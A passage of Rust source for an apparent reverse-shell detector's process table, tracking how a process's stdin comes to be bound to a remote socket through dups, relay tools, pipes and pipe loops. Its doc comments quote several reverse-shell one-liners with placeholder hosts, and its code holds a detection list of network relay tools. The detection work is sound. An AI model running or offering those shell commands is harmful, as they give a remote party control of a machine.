//! The process table: one entry per live (or recently exited) process with its lineage, what
//! it runs, its fds 0-2, and whether its standard input/output is *bound to a remote socket*.
//!
//! A process is bound when:
//! * **stdio**: its own stdin (fd 0) is a connected AF_INET/AF_INET6 socket at exec, stream or
//!   datagram (`nc -e /bin/sh` hands the socket to the shell; `sh -i >& /dev/udp/H/P 0>&1`).
//!   Only stdin counts: the peer must be able to send what the process reads (Google SCC's
//!   definition of a reverse shell: a shell whose *stdin* is bound to a remote socket). A socket
//!   on fd 1 only (`printf ... >&3` in a health check) sends data out and binds nothing, or
//! * **dup**: fd 0 was replaced by such a socket after exec (`exec 0<&3` in a shell, python
//!   `os.dup2(s.fileno(), 0)`, perl `open(STDIN, ">&S")`). A shell also dups the socket onto
//!   fd 0 for a moment when it redirects a builtin (`read l <&3`) or prepares the command it is
//!   about to exec (`cat <&3 >/dev/null`), so a dup binding is *pending* until the process forks
//!   while it holds it (it runs commands with the socket as input): then it counts as newly
//!   bound. An exec judges the new program by its own stdio, and a dup that restores fd 0
//!   clears it, or
//! * **relay**: a network relay tool (socat, nc, ...) with a connected socket is its ancestor
//!   (`socat exec:'bash -li',pty tcp:H:P` runs bash on a pty that socat feeds from the socket), or
//! * **pipe**: its stdin is a pipe or FIFO written by a bound process or a connected relay
//!   (`nc H P < /tmp/f | sh -i > /tmp/f`: nc's stdout pipe is the shell's stdin), or
//! * **pipe loop**: its stdout/stderr is the stdin pipe of a connected relay that writes what
//!   the peer sends into a pipe or FIFO, while its own stdin is a pipe
//!   (`cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f`: `cat` opens the FIFO by name, so only this
//!   shape is visible on fds 0-2), or
//! * **inherited**: its parent was bound when it forked, in the same container
//!   (a python `pty.spawn("/bin/sh")` shell whose own stdio is a pty), or
//! * **pipe writer**: it is an interactive shell (one of `shells`, reading commands from stdin:
//!   no `-c`, no script file) whose stdin is a pipe (or an AF_UNIX socketpair, node's child
//!   stdio) whose other end is held by a process
//!   ([`ward_event::ExecEvent::stdin_writer`]) that holds a connection to a remote peer (a
//!   connect/accept event of any program), before or after the shell started: interpreter
//!   relays such as python `Popen(["/bin/sh"], stdin=PIPE, stdout=PIPE)` with a pump thread,
//!   node `spawn("/bin/sh")` + `client.pipe(sh.stdin)`, java `Runtime.exec("/bin/sh")` with
//!   stream pumps, a Go `exec.Command` with `StdinPipe`. The behaviour is matched, not the
//!   relay's name.
//!
//! Memory is bounded: an exited process is removed once it has no live children, and the
//! table never holds more than `max_processes` entries (the oldest are evicted and counted).
//!
//! For the rules' pipe neighbours the table can also keep a **pipe index**
//! ([`ProcessTable::set_pipe_index`], off by default): processes by the pipe inode on their
//! fd 0 and fd 1, only for a process's own exec, exited ones for [`PIPE_EXITED_GRACE_NS`]
//! (at most [`PIPE_EXITED_MAX`]); [`ProcessTable::pipe_writer`] / [`ProcessTable::pipe_reader`]
//! look it up.

use rustc_hash::{FxHashMap, FxHashSet};
use std::collections::VecDeque;
use std::sync::Arc;
use ward_event::{Event, ExecEvent, FdInfo, FdKind, Pid, SocketInfo};

/// How deep lineage walks go (guards against cycles from pid reuse).
pub const MAX_DEPTH: usize = 32;

#[derive(Debug, Clone)]
pub struct TableConfig {
    /// Maximum number of entries; the oldest are evicted beyond it.
    pub max_processes: usize,
    /// Programs that relay a network connection to a local process (by program name).
    pub relay_tools: FxHashSet<String>,
    /// Maximum number of pipe/FIFO inodes remembered as fed by a remote peer (also the cap
    /// of interactive shells waiting for their stdin pipe's writer to connect).
    pub max_fed_pipes: usize,
    /// Shell program names: an interactive one on a pipe written by a connected process is
    /// bound (pipe writer).
    pub shells: FxHashSet<String>,
}

impl Default for TableConfig {
    fn default() -> Self {
        TableConfig {
            max_processes: 65_536,
            relay_tools: DEFAULT_RELAY_TOOLS.iter().map(|s| s.to_string()).collect(),
            max_fed_pipes: 4096,
            shells: DEFAULT_SHELLS.iter().map(|s| s.to_string()).collect(),
        }
    }
}

/// Network relay tools whose connected socket is not on their own fds 0-2.
pub const DEFAULT_RELAY_TOOLS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "telnet",
    "openssl",
    "cryptcat",
    "pwncat",
    "sbd",
    "busybox",
];

/// Shell program names.
pub const DEFAULT_SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "rbash", "fish", "tcsh", "csh", "yash",
];

/// The compact state of one of fds 0-2.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FdState {
    pub kind: FdKind,
    pub inode: u64,
    pub socket: Option<SocketInfo>,
}

impl From<&FdInfo> for FdState {
    fn from(f: &FdInfo) -> Self {
        FdState {
            kind: f.kind,
            inode: f.inode,
            socket: f.socket,
        }
    }
}

impl FdState {
    fn remote_peer(&self) -> Option<SocketInfo> {
        match (self.kind, self.socket) {
            (FdKind::InetSocket, Some(s))
                if matches!(
                    s.protocol,
                    ward_event::Protocol::Tcp | ward_event::Protocol::Udp
                ) && s.has_peer() =>
            {
                Some(s)
            }
            _ => None,
        }
    }

    fn pipe_inode(&self) -> Option<u64> {
        matches!(self.kind, FdKind::Pipe | FdKind::Fifo)
            .then_some(self.inode)
            .filter(|i| *i != 0)
    }
}

/// How a process came to be bound to a remote socket.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BindVia {
    Stdio,
    Dup,
    Relay,
    Pipe,
    PipeLoop,
    PipeWriter,
}

impl BindVia {
    pub fn as_str(self) -> &'static str {
        match self {
            BindVia::Stdio => "stdio socket at exec",
            BindVia::Dup => "socket dup'ed onto stdio after exec",
            BindVia::Relay => "descendant of a network relay",
            BindVia::Pipe => "stdin piped from a network relay",
            BindVia::PipeLoop => "stdout piped into a network relay that feeds a pipe loop",
            BindVia::PipeWriter => "stdin pipe written by a process holding a remote connection",
        }
    }
}

/// Evidence that a process's standard input/output reaches a remote peer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Binding {
    /// The process that holds the socket.
    pub origin_pid: Pid,
    pub origin_program: String,
    pub origin_binary: String,
    pub socket_inode: u64,
    pub socket: SocketInfo,
    pub via: BindVia,
    pub container_id: Option<Arc<str>>,
    /// When the binding was observed (ns).
    pub since: u64,
}

#[derive(Debug, Clone)]
pub struct Proc {
    pub pid: Pid,
    pub ppid: Pid,
    /// Time of the fork (or first sighting).
    pub start: u64,
    /// The last exec of this process (script contents dropped once detectors ran).
    pub exec: Option<Arc<ExecEvent>>,
    pub container_id: Option<Arc<str>>,
    pub stdio: [FdState; 3],
    pub exited: Option<u64>,
    /// Bound through its own fds 0/1.
    pub own: Option<Arc<Binding>>,
    /// Bound through an ancestor, a relay ancestor or a pipe.
    pub inherited: Option<Arc<Binding>>,
    /// Set on a relay tool once it holds a connected socket.
    pub relay: Option<Arc<Binding>>,
    /// True when `inherited` came from this process's own stdin pipe being fed (it reads
    /// remote data), false when it came from an ancestor.
    pub bound_by_pipe: bool,
    /// `own` came from a dup onto fd 0 and the process has not forked since (see the module
    /// doc: a shell's redirection for a builtin or for the command it is about to exec).
    pub own_pending: bool,
    /// The last remote connection this process made or accepted (any program).
    pub connection: Option<Arc<Binding>>,
    /// An interactive shell's stdin pipe writer (from its exec), while not bound.
    pub stdin_writer: Option<Pid>,
    live_children: u32,
    generation: u64,
    /// The pipe inodes this process is indexed under (stdin read, stdout written; 0 = none),
    /// when the pipe index is on.
    piped: [u64; 2],
}

impl Proc {
    /// The binding that applies to this process (an inherited binding of the same socket wins,
    /// because it names the process that opened it).
    pub fn binding(&self) -> Option<&Arc<Binding>> {
        match (&self.own, &self.inherited) {
            (Some(o), Some(i)) if o.socket_inode != 0 && o.socket_inode == i.socket_inode => {
                Some(i)
            }
            (Some(o), _) => Some(o),
            (None, i) => i.as_ref(),
        }
    }

    pub fn program(&self) -> &str {
        self.exec.as_deref().map(|e| e.program()).unwrap_or("")
    }

    /// What children inherit at fork.
    fn binding_for_children(&self) -> Option<Arc<Binding>> {
        self.binding().cloned().or_else(|| self.relay.clone())
    }
}

/// What applying one event changed, for detectors that react to state changes.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Applied {
    /// Processes that became bound by this event after their exec (dup, relay, pipe).
    pub newly_bound: Vec<Pid>,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct TableStats {
    pub processes: usize,
    pub evicted: u64,
    pub unknown_pid_events: u64,
    pub fed_pipes_evicted: u64,
}

pub struct ProcessTable {
    cfg: TableConfig,
    procs: FxHashMap<Pid, Proc>,
    /// Insertion order for eviction; entries whose generation changed are stale.
    order: VecDeque<(Pid, u64)>,
    next_generation: u64,
    /// Pipe/FIFO inodes written by a bound process or a connected relay.
    fed: FxHashMap<u64, Arc<Binding>>,
    fed_order: VecDeque<u64>,
    /// Stdin pipes of connected relays whose stdout is a pipe or FIFO (a pipe loop): whoever
    /// writes into them, reading its own stdin from a pipe, is driven by the peer.
    relay_inputs: FxHashMap<u64, Arc<Binding>>,
    relay_inputs_order: VecDeque<u64>,
    /// Interactive shells on a pipe whose writer holds no connection yet: (writer, shell,
    /// shell's generation). Bounded by `max_fed_pipes`.
    waiting_shells: VecDeque<(Pid, Pid, u64)>,
    /// Live (and recently exited) processes by the pipes on their stdin and stdout, for pipe
    /// neighbour lookups; `None` unless [`ProcessTable::set_pipe_index`] turned it on.
    pipes: Option<PipeIndex>,
    stats: TableStats,
}

/// How long an exited process still counts as the other end of a pipe (event time, ns):
/// `curl -s URL | base64 -d` where curl finished before the decoder was even exec'd still
/// decoded curl's output.
pub const PIPE_EXITED_GRACE_NS: u64 = 2_000_000_000;

/// At most this many exited processes are remembered as pipe ends.
pub const PIPE_EXITED_MAX: usize = 1024;

/// At most this many index entries are looked at per lookup (a pipe shared by thousands of
/// processes, such as a container's log pipe, must not make every lookup long).
pub const PIPE_LOOKUP_MAX: usize = 256;

/// One process's end of a pipe. A live process's exec is its entry's in the table (the
/// index holds no reference, so the table can still release script contents); an exited
/// one's is kept here with its exit time.
#[derive(Debug, Default)]
struct PipeEnd {
    exited: Option<(u64, Arc<ExecEvent>)>,
}

/// The processes holding one end of one pipe: the first inline (the common case, one
/// process per end: no allocation), any others after it.
#[derive(Debug)]
struct Ends {
    first: (Pid, PipeEnd),
    more: Vec<(Pid, PipeEnd)>,
}

impl Ends {
    fn iter(&self) -> impl Iterator<Item = &(Pid, PipeEnd)> {
        std::iter::once(&self.first).chain(&self.more)
    }

    fn iter_mut_find(&mut self, pid: Pid) -> Option<&mut PipeEnd> {
        if self.first.0 == pid {
            return Some(&mut self.first.1);
        }
        self.more
            .iter_mut()
            .find(|(p, _)| *p == pid)
            .map(|(_, e)| e)
    }
}

/// One end (fd 0 or fd 1) of the pipes of indexed processes: by inode, a hash map (an update
/// is one hash lookup, a lookup one too).
#[derive(Debug, Default)]
struct EndMap {
    by_inode: FxHashMap<u64, Ends>,
    /// Entries (processes by inode) in all of `by_inode`.
    len: usize,
}

impl EndMap {
    #[cfg(test)]
    fn len(&self) -> usize {
        self.len
    }

    fn insert(&mut self, inode: u64, pid: Pid) {
        use std::collections::hash_map::Entry;
        match self.by_inode.entry(inode) {
            Entry::Vacant(v) => {
                v.insert(Ends {
                    first: (pid, PipeEnd::default()),
                    more: Vec::new(),
                });
            }
            Entry::Occupied(mut o) => {
                let ends = o.get_mut();
                if let Some(e) = ends.iter_mut_find(pid) {
                    // Already indexed under this inode: a fresh (live) entry.
                    *e = PipeEnd::default();
                    return;
                }
                ends.more.push((pid, PipeEnd::default()));
            }
        }
        self.len += 1;
    }

    fn get_mut(&mut self, inode: u64, pid: Pid) -> Option<&mut PipeEnd> {
        self.by_inode.get_mut(&inode)?.iter_mut_find(pid)
    }

    fn get(&self, inode: u64, pid: Pid) -> Option<&PipeEnd> {
        self.by_inode
            .get(&inode)?
            .iter()
            .find(|(p, _)| *p == pid)
            .map(|(_, e)| e)
    }

    fn remove(&mut self, inode: u64, pid: Pid) {
        let Some(ends) = self.by_inode.get_mut(&inode) else {
            return;
        };
        if ends.first.0 == pid {
            match ends.more.pop() {
                Some(last) => ends.first = last,
                None => {
                    self.by_inode.remove(&inode);
                }
            }
        } else if let Some(i) = ends.more.iter().position(|(p, _)| *p == pid) {
            ends.more.swap_remove(i);
        } else {
            return;
        }
        self.len -= 1;
    }

    fn ends(&self, inode: u64) -> impl Iterator<Item = &(Pid, PipeEnd)> {
        self.by_inode.get(&inode).into_iter().flat_map(Ends::iter)
    }
}

/// Processes by pipe inode: `readers` hold the pipe on fd 0, `writers` on fd 1.
#[derive(Debug, Default)]
struct PipeIndex {
    /// Only processes whose exec bears one of these basenames (of its filename or binary
    /// path) are indexed, when set ([`ProcessTable::set_pipe_index_names`]).
    names: Option<FxHashSet<Box<str>>>,
    readers: EndMap,
    writers: EndMap,
    /// Exited processes still in the index: (exit time, pid, their `piped`).
    exited: VecDeque<(u64, Pid, [u64; 2])>,
}

impl PipeIndex {
    fn remove(&mut self, pid: Pid, piped: [u64; 2]) {
        if piped[0] != 0 {
            self.readers.remove(piped[0], pid);
        }
        if piped[1] != 0 {
            self.writers.remove(piped[1], pid);
        }
    }

    /// Forgets exited processes past the grace period or beyond the cap.
    fn expire(&mut self, now: u64) {
        while let Some(&(t, pid, piped)) = self.exited.front() {
            if self.exited.len() <= PIPE_EXITED_MAX && t.saturating_add(PIPE_EXITED_GRACE_NS) >= now
            {
                break;
            }
            self.exited.pop_front();
            // Only if the entries are still that exited process's (not a new one's, pid reuse).
            for (map, inode) in [(&mut self.readers, piped[0]), (&mut self.writers, piped[1])] {
                if inode != 0 && map.get(inode, pid).is_some_and(|e| e.exited.is_some()) {
                    map.remove(inode, pid);
                }
            }
        }
    }
}

impl ProcessTable {
    pub fn new(cfg: TableConfig) -> Self {
        ProcessTable {
            cfg,
            procs: FxHashMap::default(),
            order: VecDeque::new(),
            next_generation: 0,
            fed: FxHashMap::default(),
            fed_order: VecDeque::new(),
            relay_inputs: FxHashMap::default(),
            relay_inputs_order: VecDeque::new(),
            waiting_shells: VecDeque::new(),
            pipes: None,
            stats: TableStats::default(),
        }
    }

    /// Turns the pipe index on or off ([`pipe_writer`](Self::pipe_writer),
    /// [`pipe_reader`](Self::pipe_reader)). Off (the default) costs nothing; on, every exec,
    /// dup onto fd 0/1 and exit of a process with a pipe on stdin or stdout updates it. Turning
    /// it on indexes the processes already in the table.
    pub fn set_pipe_index(&mut self, on: bool) {
        if !on {
            self.pipes = None;
            for p in self.procs.values_mut() {
                p.piped = [0; 2];
            }
            return;
        }
        if self.pipes.is_some() {
            return;
        }
        self.pipes = Some(PipeIndex::default());
        let pids: Vec<Pid> = self.procs.keys().copied().collect();
        for pid in pids {
            self.index_pipes(pid);
        }
    }

    /// The own exec of a process (other than `not`, in `container`) that holds pipe `inode` as
    /// its stdout: the writer of a pipe the caller reads. A live writer is preferred to one
    /// that exited in the [`PIPE_EXITED_GRACE_NS`] before `now`; among several, the latest
    /// exec. `None` when the pipe index is off.
    pub fn pipe_writer(
        &self,
        inode: u64,
        container: Option<&str>,
        not: Pid,
        now: u64,
    ) -> Option<&ExecEvent> {
        self.lookup(&self.pipes.as_ref()?.writers, inode, container, not, now)
    }

    /// The own exec of a process (other than `not`, in `container`) that holds pipe `inode` as
    /// its stdin: the reader of a pipe the caller writes. As [`pipe_writer`](Self::pipe_writer).
    pub fn pipe_reader(
        &self,
        inode: u64,
        container: Option<&str>,
        not: Pid,
        now: u64,
    ) -> Option<&ExecEvent> {
        self.lookup(&self.pipes.as_ref()?.readers, inode, container, not, now)
    }

    /// The best pipe end of `inode` in `map`: same container, not `not`, live before exited
    /// (within the grace), the latest exec among equals; at most [`PIPE_LOOKUP_MAX`] entries
    /// looked at.
    fn lookup<'a>(
        &'a self,
        map: &'a EndMap,
        inode: u64,
        container: Option<&str>,
        not: Pid,
        now: u64,
    ) -> Option<&'a ExecEvent> {
        map.ends(inode)
            .take(PIPE_LOOKUP_MAX)
            .filter(|(pid, _)| *pid != not)
            .filter_map(|(pid, e)| match &e.exited {
                Some((t, exec)) => {
                    (t.saturating_add(PIPE_EXITED_GRACE_NS) >= now).then_some((false, &**exec))
                }
                None => self
                    .procs
                    .get(pid)
                    .and_then(|p| p.exec.as_deref())
                    .map(|x| (true, x)),
            })
            .filter(|(_, x)| x.container_id.as_deref() == container)
            .max_by_key(|(live, x)| (*live, x.time))
            .map(|(_, x)| x)
    }

    /// Keeps only processes whose exec's basename (of its filename or binary path) is one of
    /// `names` in the pipe index (`None`: every process), from their next exec or fd change
    /// on: the callers ask about neighbours of those names alone, and every process indexed
    /// keeps its exec for [`PIPE_EXITED_GRACE_NS`] after it exits.
    pub fn set_pipe_index_names(&mut self, names: Option<Vec<String>>) {
        if let Some(index) = self.pipes.as_mut() {
            index.names = names.map(|v| v.into_iter().map(String::into_boxed_str).collect());
        }
    }

    /// Whether the pipe index is on.
    pub fn pipe_index_on(&self) -> bool {
        self.pipes.is_some()
    }

    /// Brings the pipe index up to date for `pid` (after its exec or a change of fd 0/1).
    /// Only a process with an exec of its own is indexed: a forked shell that has not exec'd
    /// (the `while read` subshell of a pipeline) is no pipe neighbour.
    fn index_pipes(&mut self, pid: Pid) {
        let Some(index) = self.pipes.as_mut() else {
            return;
        };
        let Some(p) = self.procs.get_mut(&pid) else {
            return;
        };
        index.remove(pid, p.piped);
        p.piped = [0; 2];
        let Some(exec) = p.exec.as_deref().filter(|_| p.exited.is_none()) else {
            return;
        };
        // No pipe on fd 0 or 1 (a terminal, a file, a socket): nothing to index, and no name
        // to look up.
        if p.stdio[0].pipe_inode().is_none() && p.stdio[1].pipe_inode().is_none() {
            return;
        }
        if let Some(names) = &index.names {
            fn base(path: &str) -> &str {
                match path.as_bytes().iter().rposition(|&b| b == b'/') {
                    Some(i) => &path[i + 1..],
                    None => path,
                }
            }
            if !names.contains(base(&exec.filename)) && !names.contains(base(&exec.binary.path)) {
                return;
            }
        }
        if let Some(i) = p.stdio[0].pipe_inode() {
            index.readers.insert(i, pid);
            p.piped[0] = i;
        }
        if let Some(i) = p.stdio[1].pipe_inode() {
            index.writers.insert(i, pid);
            p.piped[1] = i;
        }
    }

    /// Takes a process out of the pipe index at once (evicted, or its pid reused).
    fn unindex_pipes(&mut self, pid: Pid, piped: [u64; 2]) {
        if let Some(index) = self.pipes.as_mut() {
            if piped != [0; 2] {
                index.remove(pid, piped);
            }
        }
    }

    /// An indexed process exited: it stays a pipe end for the grace period.
    fn pipes_exited(&mut self, pid: Pid, time: u64) {
        let Some(index) = self.pipes.as_mut() else {
            return;
        };
        let Some(p) = self.procs.get_mut(&pid) else {
            return;
        };
        let piped = std::mem::take(&mut p.piped);
        let Some(exec) = p.exec.clone().filter(|_| piped != [0; 2]) else {
            return;
        };
        for (map, inode) in [
            (&mut index.readers, piped[0]),
            (&mut index.writers, piped[1]),
        ] {
            if let Some(e) = map.get_mut(inode, pid) {
                e.exited = Some((time, exec.clone()));
            }
        }
        index.exited.push_back((time, pid, piped));
        index.expire(time);
    }

    pub fn get(&self, pid: Pid) -> Option<&Proc> {
        self.procs.get(&pid)
    }

    pub fn len(&self) -> usize {
        self.procs.len()
    }

    pub fn is_empty(&self) -> bool {
        self.procs.is_empty()
    }

    pub fn stats(&self) -> TableStats {
        TableStats {
            processes: self.procs.len(),
            ..self.stats
        }
    }

    /// The parent chain of `pid`, nearest first, at most [`MAX_DEPTH`] entries.
    pub fn ancestors(&self, pid: Pid) -> impl Iterator<Item = &Proc> + '_ {
        let mut cur = self.procs.get(&pid).map(|p| p.ppid);
        let mut seen = 0usize;
        std::iter::from_fn(move || {
            if seen >= MAX_DEPTH {
                return None;
            }
            let ppid = cur?;
            if ppid == 0 || Some(ppid) == Some(pid) {
                return None;
            }
            let p = self.procs.get(&ppid)?;
            seen += 1;
            cur = (p.ppid != p.pid).then_some(p.ppid);
            Some(p)
        })
    }

    /// Drops the script contents of a process's exec once detectors are done with it.
    pub fn release_script_contents(&mut self, pid: Pid) {
        if let Some(p) = self.procs.get_mut(&pid) {
            if let Some(exec) = p.exec.as_mut().and_then(Arc::get_mut) {
                if let Some(s) = exec.script.as_mut() {
                    s.contents = None;
                }
            }
        }
    }

    /// Seeds an already running process (agent start-up), without children accounting.
    pub fn seed(&mut self, exec: ExecEvent) {
        let pid = exec.pid;
        let ppid = exec.ppid;
        let time = exec.time;
        self.insert(pid, ppid, time);
        self.apply_exec(Box::new(exec), &mut Applied::default());
    }

    /// Applies one event. For exec, the event is moved into the table; read it back with
    /// [`ProcessTable::get`].
    pub fn apply(&mut self, event: Event) -> Applied {
        let mut applied = Applied::default();
        match event {
            Event::Fork(f) => self.apply_fork(f.pid, f.ppid, f.time, &mut applied),
            Event::Exec(e) => self.apply_exec(e, &mut applied),
            Event::Exit(x) => self.apply_exit(x.pid, x.time),
            Event::Fd(d) => self.apply_fd(d.pid, d.fd, FdState::from(&d.target), d.time),
            Event::Socket(s) => self.apply_socket(s.pid, s.inode, s.socket, s.time, &mut applied),
        }
        applied
    }

    fn insert(&mut self, pid: Pid, ppid: Pid, time: u64) -> &mut Proc {
        if let Some(old) = self.procs.remove(&pid) {
            // pid reuse (or a missed exit): the old entry is gone.
            self.unindex_pipes(pid, old.piped);
            self.child_gone(old.ppid);
        }
        self.next_generation += 1;
        let generation = self.next_generation;
        self.order.push_back((pid, generation));
        self.procs.insert(
            pid,
            Proc {
                pid,
                ppid,
                start: time,
                exec: None,
                container_id: None,
                stdio: [FdState::default(); 3],
                exited: None,
                own: None,
                inherited: None,
                relay: None,
                bound_by_pipe: false,
                own_pending: false,
                connection: None,
                stdin_writer: None,
                live_children: 0,
                generation,
                piped: [0; 2],
            },
        );
        if let Some(parent) = self.procs.get_mut(&ppid) {
            parent.live_children += 1;
        }
        self.enforce_cap(pid);
        self.procs.get_mut(&pid).expect("just inserted")
    }

    fn enforce_cap(&mut self, keep: Pid) {
        while self.procs.len() > self.cfg.max_processes {
            let Some((pid, generation)) = self.order.pop_front() else {
                break;
            };
            if pid == keep {
                self.order.push_back((pid, generation));
                continue;
            }
            if self
                .procs
                .get(&pid)
                .is_some_and(|p| p.generation == generation)
            {
                let p = self.procs.remove(&pid).expect("present");
                self.unindex_pipes(pid, p.piped);
                self.child_gone(p.ppid);
                self.stats.evicted += 1;
            }
        }
        // Keep the order queue from growing without bound through stale entries.
        if self.order.len() > 2 * self.cfg.max_processes.max(16) {
            let procs = &self.procs;
            self.order
                .retain(|(pid, g)| procs.get(pid).is_some_and(|p| p.generation == *g));
        }
    }

    fn child_gone(&mut self, ppid: Pid) {
        let mut cur = ppid;
        for _ in 0..MAX_DEPTH {
            let Some(parent) = self.procs.get_mut(&cur) else {
                return;
            };
            parent.live_children = parent.live_children.saturating_sub(1);
            if parent.exited.is_some() && parent.live_children == 0 {
                let next = parent.ppid;
                self.procs.remove(&cur);
                cur = next;
            } else {
                return;
            }
        }
    }

    fn apply_fork(&mut self, pid: Pid, ppid: Pid, time: u64, applied: &mut Applied) {
        let (container_id, stdio, inherited) = match self.procs.get_mut(&ppid) {
            Some(p) => {
                // A process that forks while its stdin is a dup'ed socket runs commands fed
                // by the peer: its pending dup binding is confirmed.
                let confirmed = p.own_pending && p.own.is_some();
                if confirmed {
                    p.own_pending = false;
                    if p.inherited.is_none() {
                        applied.newly_bound.push(ppid);
                    }
                }
                let state = (p.container_id.clone(), p.stdio, p.binding_for_children());
                if confirmed {
                    self.feed_from(ppid, applied);
                }
                state
            }
            None => {
                self.stats.unknown_pid_events += 1;
                (None, [FdState::default(); 3], None)
            }
        };
        let child = self.insert(pid, ppid, time);
        child.container_id = container_id;
        child.stdio = stdio;
        child.inherited = inherited;
    }

    fn apply_exec(&mut self, exec: Box<ExecEvent>, applied: &mut Applied) {
        let pid = exec.pid;
        // An interactive shell on a pipe: whoever holds the pipe's write end feeds it commands.
        let stdin_writer = exec
            .stdin_writer
            .filter(|w| *w != pid && reads_a_pipe(&exec.stdio[0]))
            .filter(|_| self.is_interactive_shell(&exec));
        if !self.procs.contains_key(&pid) {
            let ppid = exec.ppid;
            let parent_state = self.procs.get(&ppid).map(|p| p.binding_for_children());
            if parent_state.is_none() {
                self.stats.unknown_pid_events += 1;
            }
            let p = self.insert(pid, ppid, exec.time);
            p.inherited = parent_state.flatten();
        }
        let container_id: Option<Arc<str>> = exec.container_id.as_deref().map(Arc::from);
        let stdio = [
            FdState::from(&exec.stdio[0]),
            FdState::from(&exec.stdio[1]),
            FdState::from(&exec.stdio[2]),
        ];
        let time = exec.time;
        let fed = stdio[0]
            .pipe_inode()
            .and_then(|i| self.fed.get(&i).cloned());
        // A pipe loop: stdin from a pipe, stdout/stderr into a connected relay's stdin.
        let looped = stdio[0]
            .pipe_inode()
            .and_then(|_| {
                stdio[1..]
                    .iter()
                    .filter_map(|s| s.pipe_inode())
                    .find_map(|i| self.relay_inputs.get(&i).cloned())
            })
            .filter(|b| b.origin_pid != pid);
        let fed = fed.or(looped);
        let writer_conn = stdin_writer
            .and_then(|w| self.procs.get(&w))
            .and_then(|w| w.connection.clone());
        let p = self.procs.get_mut(&pid).expect("present");
        p.ppid = exec.ppid;
        p.stdio = stdio;
        // Bindings never cross a container boundary.
        if p.inherited
            .as_ref()
            .is_some_and(|b| b.container_id != container_id)
        {
            p.inherited = None;
        }
        p.container_id = container_id;
        p.relay = None;
        p.own_pending = false;
        p.stdin_writer = None;
        p.exec = Some(Arc::from(exec));
        // A socket the process already held before this exec keeps its origin (perl dup'ed it
        // onto stdin, then exec'd /bin/sh in place).
        let before = p.own.take();
        p.own = match (own_binding(p, BindVia::Stdio, time), before) {
            (Some(now), Some(b)) if b.socket_inode == now.socket_inode => {
                if b.origin_program.is_empty() {
                    // Dup'ed in a forked child before its first exec: name the program now.
                    Some(Arc::new(Binding {
                        origin_program: now.origin_program.clone(),
                        origin_binary: now.origin_binary.clone(),
                        ..(*b).clone()
                    }))
                } else {
                    Some(b)
                }
            }
            (now, _) => now,
        };
        if p.inherited.is_none() {
            if let Some(b) = fed {
                if b.container_id == p.container_id {
                    p.inherited = Some(b);
                    p.bound_by_pipe = true;
                }
            }
        }
        if p.binding().is_none() {
            if let Some(w) = stdin_writer {
                match writer_conn.filter(|b| b.container_id == p.container_id) {
                    Some(b) => {
                        p.inherited = Some(pipe_writer_binding(&b, time));
                        p.bound_by_pipe = true;
                    }
                    None => {
                        p.stdin_writer = Some(w);
                        let generation = p.generation;
                        self.waiting_shells.push_back((w, pid, generation));
                        while self.waiting_shells.len() > self.cfg.max_fed_pipes {
                            self.waiting_shells.pop_front();
                            self.stats.fed_pipes_evicted += 1;
                        }
                    }
                }
            }
        }
        self.index_pipes(pid);
        let p = self.procs.get(&pid).expect("present");
        if p.binding().is_some() {
            self.feed_from(pid, applied);
        }
    }

    fn apply_exit(&mut self, pid: Pid, time: u64) {
        let Some(p) = self.procs.get_mut(&pid) else {
            self.stats.unknown_pid_events += 1;
            return;
        };
        p.exited = Some(time);
        self.pipes_exited(pid, time);
        let Some(p) = self.procs.get_mut(&pid) else {
            return;
        };
        if p.live_children == 0 {
            let ppid = p.ppid;
            self.procs.remove(&pid);
            self.child_gone(ppid);
        }
    }

    fn apply_fd(&mut self, pid: Pid, fd: u8, state: FdState, time: u64) {
        let Some(p) = self.procs.get_mut(&pid) else {
            self.stats.unknown_pid_events += 1;
            return;
        };
        let Some(slot) = p.stdio.get_mut(fd as usize) else {
            return;
        };
        *slot = state;
        let had_own = p.own.is_some();
        // Keep an existing own binding whose socket is still on fd 0 (it names the origin).
        let kept = p
            .own
            .take()
            .filter(|b| p.stdio[0].inode == b.socket_inode && p.stdio[0].remote_peer().is_some());
        p.own = kept.or_else(|| own_binding(p, BindVia::Dup, time));
        match (had_own, p.own.is_some()) {
            // Pending until the process forks or execs (see the module doc); its stdout pipe
            // counts as fed from then on.
            (false, true) => p.own_pending = true,
            (_, false) => p.own_pending = false,
            (true, true) => {}
        }
        if fd < 2 {
            self.index_pipes(pid);
        }
    }

    fn apply_socket(
        &mut self,
        pid: Pid,
        inode: u64,
        socket: SocketInfo,
        time: u64,
        applied: &mut Applied,
    ) {
        let Some(p) = self.procs.get_mut(&pid) else {
            self.stats.unknown_pid_events += 1;
            return;
        };
        if !socket.has_peer() {
            return;
        }
        let exec = p.exec.as_deref();
        let conn = Arc::new(Binding {
            origin_pid: pid,
            origin_program: p.program().to_string(),
            origin_binary: exec.map(|e| e.binary.path.clone()).unwrap_or_default(),
            socket_inode: inode,
            socket,
            via: BindVia::PipeWriter,
            container_id: p.container_id.clone(),
            since: time,
        });
        p.connection = Some(conn.clone());
        self.bind_waiting_shells(pid, &conn, time, applied);
        let Some(p) = self.procs.get_mut(&pid) else {
            return;
        };
        if p.relay.is_some() || !self.cfg.relay_tools.contains(p.program()) {
            return;
        }
        let exec = p.exec.as_deref();
        p.relay = Some(Arc::new(Binding {
            origin_pid: pid,
            origin_program: p.program().to_string(),
            origin_binary: exec.map(|e| e.binary.path.clone()).unwrap_or_default(),
            socket_inode: inode,
            socket,
            via: BindVia::Relay,
            container_id: p.container_id.clone(),
            since: time,
        }));
        let relay = p.relay.clone().expect("set");
        // Descendants already running under the relay (socat starts its exec: child first).
        let descendants: Vec<Pid> = self
            .procs
            .values()
            .filter(|c| c.pid != pid && c.exited.is_none() && c.binding().is_none())
            .filter(|c| c.container_id == relay.container_id)
            .filter(|c| self.ancestors(c.pid).any(|a| a.pid == pid))
            .map(|c| c.pid)
            .collect();
        for d in descendants {
            if let Some(c) = self.procs.get_mut(&d) {
                c.inherited = Some(relay.clone());
                applied.newly_bound.push(d);
            }
        }
        // Whatever the relay writes to its stdout pipe carries the peer's input.
        self.feed_inode(
            pid,
